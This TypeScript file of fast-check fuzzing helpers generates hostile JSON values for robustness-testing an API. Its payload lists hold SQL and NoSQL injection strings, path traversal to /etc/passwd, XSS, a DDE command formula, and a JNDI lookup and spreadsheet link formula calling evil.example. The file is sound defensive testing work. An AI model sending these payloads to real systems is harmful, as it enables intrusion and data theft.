import fc from 'fast-check';

/** A number JSON cannot carry, written into the body text as is: NaN, 1e309, -0… */
export class RawLiteral {
  constructor(readonly text: string) {}
}

/** Strings that have broken real systems: injections, traversal, NUL, bidi and zero-width, lone surrogates, formulas. */
export const NASTY_STRINGS = [
  "' OR '1'='1",
  '1; DROP TABLE "user";--',
  '\' UNION SELECT national_id_encrypted FROM "user"--',
  '{"$ne":null}',
  '{"$gt":""}',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '\u0000',
  'abc\u0000def',
  '%00',
  '\u202eevil\u202c',
  'Nguyễn\u200bVăn\u200dAn',
  '\ufeff',
  '\ud800',
  'Аdmin', // Cyrillic А
  '<script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
  '=HYPERLINK("http://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-0',
  '1e309',
  ' ',
  '',
  'Nguyễn Văn An'.normalize('NFD'),
  '🙂'.repeat(300),
  'a'.repeat(70_000),
];

export const NASTY_NUMBERS: (number | RawLiteral)[] = [
  -1,
  0,
  -0,
  0.5,
  2 ** 31,
  -(2 ** 31) - 1,
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  -1e308,
  5e-324,
  new RawLiteral('NaN'),
  new RawLiteral('Infinity'),
  new RawLiteral('-Infinity'),
  new RawLiteral('1e309'),
  new RawLiteral('-1e309'),
  new RawLiteral('1e-400'),
  new RawLiteral('-0'),
  new RawLiteral('123456789012345678901234567890'),
  new RawLiteral('0x10'),
];

export const NASTY_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  '$where',
  '$ne',
  'role',
  'organisationId',
  'score',
  'userId',
  'id',
  'tokenVersion',
  'passwordHash',
  'isAdmin',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 200, maxLength: 3000 }) },
);

export const hostileNumber: fc.Arbitrary<number | RawLiteral> = fc.oneof(fc.constantFrom(...NASTY_NUMBERS), fc.integer(), fc.double());

/** Nesting deeper than any DTO expects, as body text (no recursion in the generator or the serializer). */
export const deepText = (depth: number): string => '{"a":['.repeat(depth) + '1' + ']}'.repeat(depth);
const deep = fc.integer({ min: 20, max: 5000 }).map((depth) => new RawLiteral(deepText(depth)));

/** Any JSON-ish value, hostile at every level. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...NASTY_KEYS), fc.string({ maxLength: 12 })), tie('value'), { maxKeys: 4 }),
    deep,
  ),
})).value;

/** JSON text for a value, writing RawLiterals verbatim (so NaN and 1e309 reach the parser). */
export function toJsonText(v: unknown): string {
  if (v instanceof RawLiteral) return v.text;
  if (Array.isArray(v)) return `[${v.map(toJsonText).join(',')}]`;
  if (v !== null && typeof v === 'object')
    return `{${Object.entries(v)
      .map(([k, x]) => `${JSON.stringify(k)}:${toJsonText(x)}`)
      .join(',')}}`;
  if (typeof v === 'number' && !Number.isFinite(v)) return String(v);
  return JSON.stringify(v) ?? 'null';
}
